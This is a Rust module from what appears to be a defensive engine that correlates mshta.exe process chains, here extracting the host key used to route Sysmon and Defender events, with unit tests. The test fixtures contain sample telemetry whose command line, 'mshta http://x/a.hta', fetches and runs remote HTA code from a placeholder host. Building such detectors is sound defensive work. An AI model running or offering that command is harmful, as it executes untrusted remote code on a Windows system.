//! Routing by host: the host key the engine files one input item under,
//! for deployments that partition a stream by host (a chain never spans
//! hosts, so each host's events can be correlated on their own).
//!
//! Which field names the host is each schema's decoder's knowledge, and the
//! key is `names::host_key`'s; this module only runs the engine's own
//! splitting and decoders on one item, so a router can never disagree with
//! the engine about where an event belongs.

use crate::config::Config;
use crate::decode::{decode, Decoded};
use crate::input;
use crate::names::host_key;

/// The host key (trimmed, ASCII letters lower case) under which the engine
/// correlates the first item of `item`: one event as UTF-8 JSON, in any
/// schema the core decodes (a JSON line, a pretty-printed object, an array
/// whose first element is the event).
///
/// `None` when the engine files the item under no host: it is not JSON, is
/// of no known schema, is rejected, carries nothing the engine uses, or
/// names no process. A Defender streaming-API envelope (`{"records":
/// [...]}`) gives the host its records share, and `None` when they name
/// several: route each record on its own then (the engine decodes every
/// record by itself, so splitting an envelope changes no chain).
///
/// ```
/// use mshta_chain_core::host_of;
///
/// let sysmon = br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":" PC1.Corp.Example ",
///   "UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{11111111-0000-0000-0000-000000000001}",
///   "ProcessId":"100","Image":"C:\\Windows\\System32\\mshta.exe","ParentProcessId":"99"}"#;
/// assert_eq!(host_of(sysmon).as_deref(), Some("pc1.corp.example"));
/// assert_eq!(host_of(b"not an event"), None);
/// ```
pub fn host_of(item: &[u8]) -> Option<String> {
    let limit = Config::default().max_item_bytes;
    let mut in_array = false;
    let split = input::split(item, &mut in_array, true, limit);
    let piece = split.pieces.into_iter().next()?.ok()?;
    if piece.len() > limit {
        return None;
    }
    let key = match decode(piece, 0).ok()?.0 {
        Decoded::Event(event) => host_key(&event.host),
        Decoded::Many(events, ..) => {
            let mut keys = events.iter().map(|e| host_key(&e.host));
            let first = keys.next()?;
            if keys.any(|k| k != first) {
                return None;
            }
            first
        }
        Decoded::Ignored(_) | Decoded::Unattributable(_) => return None,
    };
    (!key.is_empty()).then(|| key.into())
}

#[cfg(test)]
mod tests {
    use super::host_of;
    use crate::{analyze, Config};

    const SYSMON: &str = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"HOST","UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{11111111-0000-0000-0000-000000000001}","ProcessId":"100","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta http://x/a.hta","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentProcessId":"99"}"#;

    fn sysmon(host: &str) -> String {
        SYSMON.replace("\"HOST\"", &serde_json::to_string(host).unwrap())
    }

    #[test]
    fn the_key_is_the_engines_host_key() {
        assert_eq!(host_of(sysmon("  WS01.Corp.Example  ").as_bytes()).as_deref(), Some("ws01.corp.example"));
        // Only ASCII letters are lowered, as the engine keys hosts.
        assert_eq!(host_of(sysmon("ÄBC").as_bytes()).as_deref(), Some("Äbc"));
        // The chain the engine reports is on the same host.
        let report = analyze(sysmon("WS01").as_bytes(), &Config::default()).unwrap();
        assert_eq!(report.chains[0].host.to_ascii_lowercase(), host_of(sysmon("WS01").as_bytes()).unwrap());
    }

    #[test]
    fn items_the_engine_files_under_no_host() {
        for item in [
            &b""[..],
            b"not json",
            b"[1,2]",
            b"{\"a\":1}",
            b"{\"EventID\":1",
            b"\xff\xfe",
            // A known schema without its host field is rejected.
            br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2024-05-01 10:00:00.000","ProcessId":"100","Image":"C:\\a.exe"}"#,
        ] {
            assert_eq!(host_of(item), None, "{}", String::from_utf8_lossy(item));
        }
    }

    #[test]
    fn the_first_item_of_a_line_or_an_array() {
        let two = format!("{}\n{}\n", sysmon("A"), sysmon("B"));
        assert_eq!(host_of(two.as_bytes()).as_deref(), Some("a"));
        let array = format!("[{}, {}]", sysmon("C"), sysmon("D"));
        assert_eq!(host_of(array.as_bytes()).as_deref(), Some("c"));
    }

    fn record(device: &str) -> String {
        format!(
            r#"{{"category":"AdvancedHunting-DeviceProcessEvents","properties":{{"Timestamp":"2024-05-01T10:00:00Z","DeviceName":"{device}","DeviceId":"d-{device}","ActionType":"ProcessCreated","ProcessId":200,"FileName":"mshta.exe","FolderPath":"C:\\Windows\\System32\\mshta.exe","ProcessCommandLine":"mshta http://x/a.hta","ProcessCreationTime":"2024-05-01T10:00:00Z","InitiatingProcessId":100,"InitiatingProcessFileName":"cmd.exe","InitiatingProcessCreationTime":"2024-05-01T09:00:00Z"}}}}"#
        )
    }

    #[test]
    fn streaming_envelopes_route_when_their_records_agree() {
        let one = format!(r#"{{"records":[{},{}]}}"#, record("Dev1"), record("DEV1"));
        assert_eq!(host_of(one.as_bytes()).as_deref(), Some("dev1"));
        let two = format!(r#"{{"records":[{},{}]}}"#, record("Dev1"), record("Dev2"));
        assert_eq!(host_of(two.as_bytes()), None);
        // Each record on its own, as a router splits the envelope.
        assert_eq!(host_of(record("Dev2").as_bytes()).as_deref(), Some("dev2"));
        assert_eq!(host_of(br#"{"records":[]}"#), None);
    }
}
